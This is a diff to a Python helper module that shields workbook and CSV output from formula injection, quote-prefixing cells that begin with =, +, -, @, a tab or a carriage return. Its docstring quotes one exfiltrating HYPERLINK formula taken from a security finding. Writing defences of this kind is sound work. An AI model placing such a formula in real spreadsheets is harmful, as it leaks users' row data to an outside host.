@@ -1,8 +1,20 @@
-"""Helpers every workbook the platform reads or writes shares."""
+"""Helpers every workbook (and CSV file) the platform reads or writes shares.
+
+People's text goes into the offices' spreadsheets; a spreadsheet reads a cell beginning with ``=`` (and, on import
+into another program, ``+ - @``, a tab or a carriage return) as a formula. A major written as
+``=HYPERLINK("http://…"&B3,"土木工程")`` became a live link that sends the row's neighbours away (issue 10, finding 5;
+OWASP "CSV injection"). Every row the platform writes goes through :func:`append_row` (workbooks) or :func:`csv_row`
+(CSV), so such text is always written as text.
+"""
 
 from __future__ import annotations
 
+from collections.abc import Iterable
+from typing import Any
+
 from openpyxl.utils import get_column_letter
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def column_letter(index: int) -> str:
@@ -10,17 +22,31 @@ def column_letter(index: int) -> str:
     return get_column_letter(index + 1)
 
 
+def formula_like(value: object) -> bool:
+    """Text a spreadsheet program could take for a formula."""
+    return isinstance(value, str) and value.startswith(FORMULA_STARTS)
+
+
+def append_row(ws: Any, values: Iterable[object]) -> None:
+    """Append ``values`` as the sheet's next row, text that looks like a formula kept as text: the cell is a string
+    cell with Excel's quote prefix (what typing ``'`` before it does), so neither reading nor editing runs it."""
+    ws.append(list(values))
+    for cell in ws[ws.max_row]:
+        if formula_like(cell.value):
+            cell.data_type = "s"
+            cell.quotePrefix = True
+
+
+def csv_cell(value: object) -> str:
+    """One CSV field: text that looks like a formula starts with ``'``, which spreadsheet programs show as text."""
+    text = "" if value is None else str(value)
+    return f"'{text}" if formula_like(text) else text
+
+
+def csv_row(values: Iterable[object]) -> list[str]:
+    """A row for ``csv.writer.writerow`` with every field made safe by :func:`csv_cell`."""
+    return [csv_cell(v) for v in values]
+
+
 class ImportProblem(ValueError):
     """A workbook that cannot be read at all."""
-
-
-# A cell that begins with one of these is read by Excel and LibreOffice as a formula (or a DDE command).
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-def safe_cell(value: object) -> object:
-    """A value for a CSV cell: text that a spreadsheet would run as a formula is written with a leading apostrophe,
-    which the spreadsheet shows as text (OWASP's CSV injection advice)."""
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
-        return "'" + value
-    return value
